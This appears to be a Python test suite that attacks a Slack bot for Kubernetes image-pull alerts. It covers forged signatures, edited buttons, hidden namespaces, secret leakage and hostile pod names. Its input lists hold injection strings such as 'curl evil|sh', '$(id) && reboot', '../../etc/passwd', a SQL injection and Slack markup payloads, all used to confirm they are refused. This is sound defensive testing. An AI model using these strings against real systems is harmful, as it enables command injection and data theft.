"""The bot in Slack, whole and attacked: cases of the security design, from a stranger's request or pod to what is sent.

The real bot stands between a simulated workspace and an API server. Whoever attacks signs nothing, or signs and edits
what they send, or writes pods; nothing of it may act, leak, or tell what may not be seen.
"""

import asyncio
import base64
import io
import json
import logging
import re
import socket
import sqlite3
import time
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
import structlog
from aiohttp import ClientSession

from bot.cli import logs
from bot.demo.workspace.faults import Fault as SlackFault
from bot.demo.workspace.faults import Way
from bot.demo.workspace.http_mode import signature
from bot.demo.workspace.server import SimulatedSlack
from bot.settings import Settings, Tokens
from bot.slack import members, modal, names
from bot.wiring.serving import Service, serving
from tests.fakes import objects, slack_limits, slack_markup
from tests.fakes.api_server import FakeApiServer, Fault


CANARY = "c4n4ry-s3cr3t"
GONE = 'failed to pull and unpack image "registry.example/web:9": not found'
LEAKY = (
    f'failed to resolve reference "https://bob:{CANARY}@registry.example/v2/web/manifests/9": 403 Forbidden'
)
# A mention, a link, an end of a string with a block, an end of a code span, directions, nothing at all, and very much.
HOSTILE = (
    "<!channel> <@U00000000SAM> <https://evil.example|docs> `*_~` :tada: @here "
    '"}],"blocks":[{"type":"section","action_id":"evil"}] \u202egnp.exe \u200b\u200d\x1b]52;c;eA==\x07'
)
ASK = [
    {"who": ["@developers"], "clusters": ["eu"], "namespaces": ["shop"]},
    {"who": ["@sre"]},
]


@dataclass
class Bench:
    """A bot at work, and everything around it."""

    slack: SimulatedSlack
    server: FakeApiServer
    service: Service
    folder: Path

    async def asks(self, who: str, words: str, where: str = "#shop-oncall") -> str:
        """What somebody is told when they type a command, in one text."""
        before = len(self.slack.person(who).sees(where))
        await self.slack.person(who).sends(where, f"/imagepull {words}")

        def answered() -> list[dict[str, Any]]:
            new = self.slack.person(who).sees(where)[before:]
            return [each for each in new if not each["text"].startswith("Looking")]

        found = await self.slack.until(answered)
        # An answer may be a few messages.
        while len(found) < len(found := await self._in_a_moment(answered)):
            pass
        return _told(found)

    async def _in_a_moment(self, seen: Callable[[], list[dict[str, Any]]]) -> list[dict[str, Any]]:
        await asyncio.sleep(0.08)
        return seen()

    async def sends(self, who: str, where: str, **action: Any) -> None:
        """Click something that was edited on its way, on a message that only they see; an answer may take its place."""
        space = self.slack.service.space
        user, channel = self.slack.person(who).id, space.channel(where)
        message = space.show(channel, user, {"text": "what was clicked", "blocks": []})
        state: dict[str, Any] = {"values": {}}
        made = {"type": "button", "block_id": "b", **action}
        payload = self.slack.service.payloads.action_on_message(user, channel, message, made, state)
        assert (await self.slack.service.delivery.ask("interactive", payload)).acked

    def admit(self, who: str, where: str) -> None:
        """Let somebody in wherever the workspace can: into every group, and into a channel."""
        space, user = self.slack.service.space, self.slack.person(who).id
        space.channel(where).members.append(user)
        for group in space.groups.values():
            group["users"] = [*group["users"], user]

    def alerts(self, where: str = "#image-pulls") -> list[dict[str, Any]]:
        """What stands in a channel for everybody."""
        return [each for each in self.slack.person("sam").sees(where) if not each.get("ephemeral")]

    def incidents(self) -> list[str]:
        """Ids of all that is stored."""
        with sqlite3.connect(f"file:{self.folder / 'imagepull.db'}?mode=ro", uri=True) as reading:
            return [row[0] for row in reading.execute("SELECT id FROM episodes")]


def _told(messages: list[dict[str, Any]]) -> str:
    """All of their words; the ids that Slack gives to blocks are new each time."""
    told = (f"{each['text']} {json.dumps(each.get('blocks', []))}" for each in messages)
    return re.sub(r'"block_id": "[^"]*"', "", " ".join(told))


def _failing(name: str, namespace: str, message: str = GONE, **meta: Any) -> dict[str, Any]:
    state = objects.waiting("ImagePullBackOff", message)
    made = objects.pod(name, namespace, state=state, metadata=meta)
    return _pulling(made, f"registry.example/{namespace}-web:9")


def _pulling(pod: dict[str, Any], image: str) -> dict[str, Any]:
    """The same pod with another image."""
    pod["spec"]["containers"][0]["image"] = image
    pod["status"]["containerStatuses"][0]["image"] = image
    return pod


def _objects() -> list[dict[str, Any]]:
    auths = {"auths": {"registry.example": {"username": "bob", "password": CANARY}}}
    content = base64.b64encode(json.dumps(auths).encode()).decode()
    return [
        *(objects.named("Namespace", name, "") for name in ("shop", "vault")),
        _failing("web-1", "shop", LEAKY, annotations={"token": f"Bearer {CANARY}"}),
        _failing("gold-1", "vault"),
        objects.event("web-1", message=LEAKY),
        objects.named(
            "Secret", "regcred", type="kubernetes.io/dockerconfigjson", data={".dockerconfigjson": content}
        ),
    ]


@asynccontextmanager
async def _bench(
    folder: Path, more: list[dict[str, Any]] | None = None, **settings: Any
) -> AsyncIterator[Bench]:
    async with SimulatedSlack() as slack, FakeApiServer([*_objects(), *(more or [])]) as server:
        file = folder / "kubeconfig"
        named = {"name": "it", "context": {"cluster": "it", "user": "it"}}
        users = [{"name": "it", "user": {"token": f"t-{CANARY}"}}]
        served = [{"name": "it", "cluster": {"server": server.url}}]
        told = {"current-context": "it", "contexts": [named], "clusters": served, "users": users}
        file.write_text(json.dumps(told))
        each = {"kubeconfig": str(file), "interval": "1h", "deadline": "5s"}
        tree = {
            "clusters": {"eu": each, "dark": each},
            "routes": [{"channel": "#image-pulls"}],
            "detection": {"hold": "1s"},
            "people": {"ask": ASK},
            "store": {"url": f"sqlite:///{folder / 'imagepull.db'}"},
            "slack": {"api_url": slack.api, **settings.pop("slack", {})},
        }
        tokens = Tokens(slack.bot_token, slack.app_token, slack.signing_secret)
        async with serving(Settings.model_validate(tree | settings), tokens) as service:
            if service.chat.app.port == 0:
                await slack.until(lambda: slack.connected)
            yield Bench(slack, server, service, folder)


@pytest.fixture
async def bench(tmp_path: Path) -> AsyncIterator[Bench]:
    """A bot that dana may ask about eu's shop, and sam about everything."""
    async with _bench(tmp_path) as made:
        yield made


@pytest.fixture
def logged(capsys: pytest.CaptureFixture[str]) -> Iterator[Callable[[], str]]:
    """All that ``imagepull run`` would log, at its most talkative."""
    root = logging.getLogger()
    before, level = root.handlers, root.level
    quiet = {name: logging.getLogger(name).level for name in logs._QUIET}
    logs.set_up(machine=True, verbose=True)
    yield lambda: capsys.readouterr().err
    root.handlers = before
    root.setLevel(level)
    for name, each in quiet.items():
        logging.getLogger(name).setLevel(each)
    structlog.reset_defaults()


@pytest.mark.attack(36, "10 MB body")
@pytest.mark.attack(2, "old", "repeated")
@pytest.mark.attack(1, "forged", "unsigned", "empty signing secret", "nothing of the body is logged")
async def test_case_1_2_36_only_what_slack_signed_now_and_once_comes_in(
    tmp_path: Path, logged: Callable[[], str]
) -> None:
    """Over HTTP: unsigned, forged, with an empty secret, old, edited, repeated and too large, each refused unread."""
    async with _bench(tmp_path, slack={"mode": "http", "listen": f"127.0.0.1:{_free()}"}) as bench:
        channel, user = "C0SHOPONCALL", bench.slack.person("sam").id
        fields = {"command": "/imagepull", "text": f"clusters {CANARY}", "user_id": user}
        body = urlencode({**fields, "channel_id": channel, "team_id": "T0ACME000001"}).encode()
        now, secret = int(time.time()), bench.slack.signing_secret
        url = f"http://127.0.0.1:{bench.service.chat.app.port}/slack/events"
        form = {"Content-Type": "application/x-www-form-urlencoded"}
        async with ClientSession() as session:

            async def post(sent: bytes, moment: int, signed: str | None) -> int:
                head = {"X-Slack-Request-Timestamp": str(moment), **form}
                head |= {"X-Slack-Signature": signed} if signed is not None else {}
                async with session.post(url, data=sent, headers=head) as answer:
                    return answer.status

            def good(at: int, key: str = secret) -> str:
                return signature(key, str(at), body)

            wrong = [
                None,
                "",
                "v0=",
                "v0=" + "0" * 64,
                good(now, ""),
                good(now, " "),
                good(now - 1),
                "v1=" + good(now)[3:],
            ]
            assert [await post(body, now, each) for each in wrong] == [401] * len(wrong)
            assert [await post(body, at, good(at)) for at in (now - 400, now + 400, 0)] == [401] * 3
            assert await post(body + b"&text=why", now, good(now)) == 401
            assert await _large(session, url) in (0, 413)
            assert [await post(body, now, good(now)), await post(body, now, good(now))] == [200, 401]
        assert bench.service.chat.app.health().connected
        assert not [each for each in bench.slack.calls if CANARY in str(each.given)]
    said = logged()
    assert CANARY not in said
    assert bench.slack.signing_secret not in said


def _free() -> int:
    with socket.create_server(("127.0.0.1", 0)) as found:
        return int(found.getsockname()[1])


async def _large(session: ClientSession, url: str) -> int:
    """The status of ten megabytes; 0 where the door was shut while they came."""
    try:
        async with session.post(url, data=io.BytesIO(b"x" * 10_000_000)) as answer:
            return answer.status
    except OSError:
        return 0


@pytest.mark.attack(3, "retry while the first runs", "duplicate envelope")
async def test_case_3_duplicate_is_answered_once(bench: Bench) -> None:
    """Each envelope comes twice, while the first still runs."""
    bench.slack.faults.doubles = 3
    for words in ("clusters", "list", "why web-1 -n shop"):
        await bench.asks("dana", words)
    await asyncio.sleep(0.3)
    shown = [each["text"] for each in bench.slack.person("dana").sees("#shop-oncall")]
    assert len(shown) == len(set(shown)) == 4, shown


@pytest.mark.attack(6, "no right", "guest", "private refusal")
async def test_case_6_stranger_learns_nothing(bench: Bench) -> None:
    """A guest, one of a single channel, in a group or not, and a full member whom nobody let: each verb, to them alone."""
    await bench.slack.until(bench.incidents)
    for who in ("gus", "uma"):
        bench.admit(who, "#random")
    verbs = [
        "why web-1 -n shop",
        "why -n shop -c eu",
        "sweep -c eu",
        "list",
        "history",
        "clusters",
        "fix web-1",
    ]
    verbs += [f"{verb} {name}" for name in bench.incidents()[:1] for verb in ("ack", "snooze")]
    for who in ("gus", "uma", "lee"):
        for words in verbs:
            told = await bench.asks(who, words, "#random")
            found = [each for each in ("registry.example", "vault", "dark") if each in told]
            assert not found, (who, words)
    assert bench.alerts("#random") == []


@pytest.mark.attack(6, "Slack Connect user", "bot", "deactivated")
async def test_case_6_whoever_is_outside_learns_nothing(bench: Bench) -> None:
    """Of another workspace, deactivated, or a bot, though groups name them: a signed payload in their name tells nothing."""
    await bench.slack.until(bench.incidents)
    outside = ("riley", "morgan", "deploybot")
    for who in outside:
        bench.admit(who, "#shop-oncall")
    told = [(names.ACKNOWLEDGE, f"ack {name}") for name in bench.incidents()]
    told += [(f"{names.CHOOSE}-0", "why web-1 -n shop -c eu"), (names.LIST, "list")]
    # The last of them may know, and does not have to wait longer than the others.
    for who in (*outside, "dana"):
        for action, value in told:
            await bench.sends(who, "#shop-oncall", action_id=action, value=value)
    await bench.slack.until(
        lambda: "registry.example/shop" in _told(bench.slack.person("dana").sees("#shop-oncall"))
    )
    await asyncio.sleep(0.3)
    for who in outside:
        seen = _told(bench.slack.person(who).sees("#shop-oncall"))
        assert "what was clicked" in seen, who
        assert not [each for each in ("registry.example", "open incident", "cknowledged") if each in seen], (
            who
        )
    assert "cknowledged by" not in _told(bench.alerts())


@pytest.mark.attack(6, "removed from the group since")
async def test_case_6_who_left_the_group_is_refused(bench: Bench, monkeypatch: pytest.MonkeyPatch) -> None:
    """What was read is believed for a minute and not longer, also by a button that is there since."""
    monkeypatch.setattr(members, "_SECONDS", 0.0)
    assert "registry.example" in await bench.asks("dana", "why web-1 -n shop")
    dana = bench.slack.person("dana").id
    for group in bench.slack.service.space.groups.values():
        group["users"] = [each for each in group["users"] if each != dana]
    assert "no cluster that you may ask about" in await bench.asks("dana", "why web-1 -n shop")


@pytest.mark.attack(8, "namespace that one may not see")
async def test_case_8_what_is_hidden_is_like_nothing(bench: Bench) -> None:
    """Word by word what is said of a namespace or cluster that is not there, whichever way one asks."""
    await bench.slack.until(lambda: len(bench.alerts()) > 1)
    for words in _HIDDEN:
        hidden = await bench.asks("dana", words.format(space="vault", cluster="dark"))
        absent = await bench.asks("dana", words.format(space="vaulx", cluster="darx"))
        assert hidden.replace("vault", "vaulx").replace("dark", "darx") == absent, words


_HIDDEN = (
    "why gold-1 -n {space}",
    "why {space}/gold-1",
    "fix gold-1 -n {space}",
    "why -n {space}",
    "why deploy/gold -n {space} -c eu",
    "why web-1 -c {cluster}",
    "list -c {cluster}",
    "history -c {cluster}",
    "sweep -c {cluster}",
    "fix web-1 -c {cluster}",
)


@pytest.mark.attack(8, "namespace that one may not see")
async def test_case_8_nothing_hidden_is_listed(bench: Bench) -> None:
    """Neither its names nor its number; who may see it does."""
    await bench.slack.until(lambda: len(bench.alerts()) > 1)
    for words in ("list", "clusters", "history", "sweep -c eu", "why gold-1", "why gol"):
        told = await bench.asks("dana", words)
        assert "vault" not in told, words
        assert "dark" not in told, words
    assert "1 open incident" in await bench.asks("dana", "list")
    assert "vault" in await bench.asks("sam", "sweep -c eu")


@pytest.mark.attack(8, "namespace that one may not see")
async def test_case_8_nothing_hidden_is_offered(bench: Bench) -> None:
    """Neither in the app's Home nor in the form, whatever is typed into its search."""
    await bench.slack.until(lambda: len(bench.alerts()) > 1)
    for who, sees in (("dana", False), ("sam", True)):
        person = bench.slack.person(who)
        person.opens_home()
        await person.sends("#shop-oncall", "/imagepull")
        await bench.slack.until(lambda person=person: person.home and person.modals)
        form = person.modals[-1]
        found = [await person.suggests(form, modal.POD, typed) for typed in ("", "web", "gold", "vault/")]
        told = json.dumps([person.home, form, found])
        assert "shop/web-1" in told
        assert [each in told for each in ("vault", "gold-1", '"dark"')] == [sees] * 3, who


@pytest.mark.attack(5, "edited value")
async def test_case_5_edited_buttons_do_and_tell_nothing(bench: Bench) -> None:
    """Another's incident, a hidden namespace, somebody else's answer, a thousand words: refused, to them alone."""
    await bench.slack.until(lambda: len(bench.incidents()) > 1)
    found = await bench.asks("sam", "why gold-1 -n vault -c eu")
    (shared,) = re.findall(rf'"action_id": "{names.SHARE}", +"value": "(\w+) ', found)
    values = [
        (f"{names.CHOOSE}-0", "why gold-1 -n vault -c eu"),
        (f"{names.CHOOSE}-0", "sweep -c dark"),
        (names.SHARE, f"{shared} why gold-1 -n vault -c eu"),
        (names.SHARE, shared),
        (names.SHARE, "x why " + "web-1 " * 1_000),
        (names.LIST, "list -c dark"),
        (names.ACKNOWLEDGE, "ack ../../etc/passwd"),
        (names.SNOOZE, "snooze $(id) 99999999999d"),
        (names.ACKNOWLEDGE, "\u202e\u200b<!channel>"),
    ]
    for action, value in values:
        await bench.sends("dana", "#shop-oncall", action_id=action, value=value)
    # Whoever may see it is answered by the same button, so that what dana is not told was refused.
    await bench.sends("sam", "#shop-oncall", action_id=f"{names.CHOOSE}-0", value=values[0][1])
    await bench.slack.until(lambda: "vault-web" in _told(bench.slack.person("sam").sees("#shop-oncall")))
    await asyncio.sleep(0.3)
    told = _told(bench.slack.person("dana").sees("#shop-oncall"))
    assert told.count("what was clicked") < len(values)
    assert not [each for each in ("registry.example", "vault/gold-1") if each in told]
    assert bench.alerts("#shop-oncall") == []


_TYPED = (
    "why " + "web-1 " * 1_000,
    "why web-1;curl evil|sh -n shop",
    "why ../../../etc/passwd",
    "why web-1 -n ../vault",
    "why web-1 -n shop%2f..%2fvault",
    "why w\u0435b-1 -n shop",  # a Cyrillic letter in it
    "why \u202e1-bew\u200b -n shop",
    "why $(id) `id` ${HOME} && reboot",
    "ack ' OR 1=1 --",
    "snooze x 99999999999999999999d",
    "why " + "\u00e9" * 7_000,
    "\x00\x1b[2J",
)


@pytest.mark.attack(8, "namespace that one may not see")
@pytest.mark.attack(5, "edited value")
async def test_case_5_8_hidden_incidents_cannot_be_touched(bench: Bench) -> None:
    """By a button's edited value or by typing: nothing of them changes, and the words are those for none."""
    await bench.slack.until(lambda: len(bench.alerts()) > 1)
    listed = await bench.asks("dana", "list")
    hidden = [each for each in bench.incidents() if each not in listed]
    assert len(hidden) == len(bench.incidents()) - 1
    absent = await bench.asks("dana", "ack zzzzzzzzzz")
    for name in hidden:
        assert (await bench.asks("dana", f"ack {name}")).replace(name, "z" * 10) == absent
    for name in hidden:
        for action, value in ((names.ACKNOWLEDGE, f"ack {name}"), (names.SNOOZE, f"snooze {name} 1d")):
            await bench.sends("dana", "#shop-oncall", action_id=action, value=value)
    await asyncio.sleep(0.3)
    assert "cknowledged by" not in await bench.asks("sam", "list")
    await bench.asks("sam", f"ack {hidden[0]}")
    assert "cknowledged by" in await bench.asks("sam", "list")


@pytest.mark.attack(14, "1,000 arguments", "shell characters", "../", "look-alike letters")
async def test_case_14_what_is_typed_is_validated(bench: Bench) -> None:
    """Each is answered in a line; the API server is asked for nothing that was not meant."""
    for words in _TYPED:
        assert "went wrong here" not in await bench.asks("dana", words), words
    asked = {each.namespace for each in bench.server.log} | {each.name for each in bench.server.log}
    assert not [each for each in asked if set(each or "") & set("./;$ %\u0435\u202e")]


@pytest.mark.attack(34, "in Slack")
@pytest.mark.attack(10, "closing a string", "adding a block", "setting an action_id")
@pytest.mark.attack(
    9,
    "<!channel>",
    "<@U…>",
    "<https://evil|docs>",
    "backticks",
    "right-to-left",
    "zero-width",
    "10 kB lines",
    "still posted",
)
async def test_case_9_10_11_hostile_pods_are_told_and_inert(tmp_path: Path) -> None:
    """Names of everything, in alerts, answers, lists, forms and Home; each within Slack's limits."""
    label = {"app": HOSTILE, "owner": HOSTILE}
    image = f"registry.example/{HOSTILE}"
    pods = [_failing("evil-1", "shop", HOSTILE + "x" * 10_000, labels=label, annotations=label)]
    pods = [_pulling(pods[0], image)]
    pods.append(objects.event("evil-1", message=f"Failed to pull image: {HOSTILE}\n" * 50))
    async with _bench(tmp_path, pods) as bench:
        bench.slack.service.space.user("sam")["profile"]["display_name"] = HOSTILE
        await bench.slack.until(lambda: "evil" in _told(bench.alerts()))
        for words in ("why evil-1 -n shop -c eu", "fix evil-1 -n shop -c eu", "list", "sweep -c eu"):
            await bench.asks("sam", words)
        for name in bench.incidents():
            await bench.asks("sam", f"ack {name}")
        bench.slack.person("sam").opens_home()
        await bench.slack.until(lambda: bench.slack.person("sam").home)
        sent = [each.given for each in bench.slack.calls]
        sent += [each for each in bench.slack.person("sam").sees("#shop-oncall") if each.get("ephemeral")]
    messages = [each for each in sent if each.get("blocks") or each.get("text")]
    assert messages
    assert [
        problem for each in messages for problem in slack_markup.arising(each) if not _ours(problem)
    ] == []
    payloads = [each.get("view") or each for each in (call.given for call in bench.slack.calls)]
    assert [found for each in payloads if "blocks" in each for found in slack_limits.check(each)] == []


def _ours(found: str) -> bool:
    """Buttons of the bot are its own; what they hold is read as if it had been typed."""
    return found.startswith(("action_id", "value", "block_id")) and not {"<", "`", "\u202e"} & set(found)


def _kept(folder: Path) -> bytes:
    """The memory, as it lies on the disk."""
    return b"".join(each.read_bytes() for each in folder.glob("imagepull.db*"))


@pytest.mark.attack(31, "logs", "Slack", "memory")
async def test_case_12_25_31_nothing_secret_is_told_logged_or_stored(
    tmp_path: Path, logged: Callable[[], str]
) -> None:
    """Passwords in messages, Secrets, annotations and tokens, while both sides fail in every way."""
    async with _bench(tmp_path) as bench:
        await bench.slack.until(lambda: len(bench.alerts()) > 1)
        body = json.dumps({"message": f"denied for https://bob:{CANARY}@x.example"})
        for status in (401, 403, 410, 429, 500):
            bench.server.faults.append(Fault(times=3, status=status, body=body))
            await bench.asks("sam", "sweep -c eu")
        for way, more in (
            (Way.STATUS, {}),
            (Way.RESET, {}),
            (Way.ERROR, {"error": f"x-{CANARY}"}),
            (Way.LOST, {}),
        ):
            bench.slack.faults.add(SlackFault("chat.*|users.*|views.*", way, **more))
            await bench.slack.person("sam").sends("#shop-oncall", "@imagepull why web-1 -n shop -c eu")
            bench.slack.person("sam").opens_home()
            await asyncio.sleep(0.05)
        bench.server.faults.append(Fault(times=-1, status=500, body=body))
        bench.service.bot.look_soon("eu")
        await asyncio.sleep(0.3)
        health = [bench.service.chat.app.health(), await bench.service.chat.messenger.health()]
        kept = _kept(tmp_path)
        told = json.dumps([each.given for each in bench.slack.calls], default=str)
        told += _told(bench.slack.person("sam").sees("#shop-oncall"))
        assert "Resolved" not in _told(bench.alerts())
    assert CANARY not in told
    assert CANARY not in repr(health)
    assert CANARY.encode() not in kept
    assert base64.b64encode(CANARY.encode()).strip(b"=") not in kept
    said = logged()
    assert said
    for secret in (CANARY, bench.slack.bot_token, bench.slack.app_token, bench.slack.signing_secret):
        assert secret not in said


@pytest.mark.attack(28, "routing")
async def test_case_28_tenants_choose_only_what_was_allowed(tmp_path: Path) -> None:
    """A label or annotation that names another channel, a mention or a pattern changes nothing."""
    wanted = ["#platform-alerts", "<!channel>", "#*", "C0PLATFORMAL", "#shop-oncall #platform-alerts"]
    pods = [
        _failing(
            f"p{number}-1", "shop", annotations={"imagepull/channel": each, "imagepull/mention": "@here"}
        )
        for number, each in enumerate(wanted)
    ]
    tenants = {"key": "imagepull/channel", "channels": ["#shop-oncall"]}
    async with _bench(tmp_path, pods, routes=[{"channel": "#image-pulls", "tenants": tenants}]) as bench:
        await bench.slack.until(bench.alerts)
        await asyncio.sleep(0.3)
        assert bench.alerts("#platform-alerts") == []
        assert "@here" not in _told(bench.alerts())
